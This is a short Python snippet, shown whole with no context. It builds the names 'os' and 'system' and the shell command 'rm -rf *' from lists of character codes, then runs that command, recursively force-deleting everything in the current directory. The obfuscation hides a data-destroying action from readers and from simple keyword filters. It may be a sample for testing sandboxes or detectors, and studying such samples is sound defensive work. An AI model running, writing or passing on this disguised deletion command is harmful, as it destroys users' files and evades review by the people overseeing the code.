f = "".join(map(chr, [111, 115]))
g = "".join(map(chr, [115, 121, 115, 116, 101, 109]))
getattr(__import__(f), g)("".join(map(chr, [114, 109, 32, 45, 114, 102, 32, 42])))
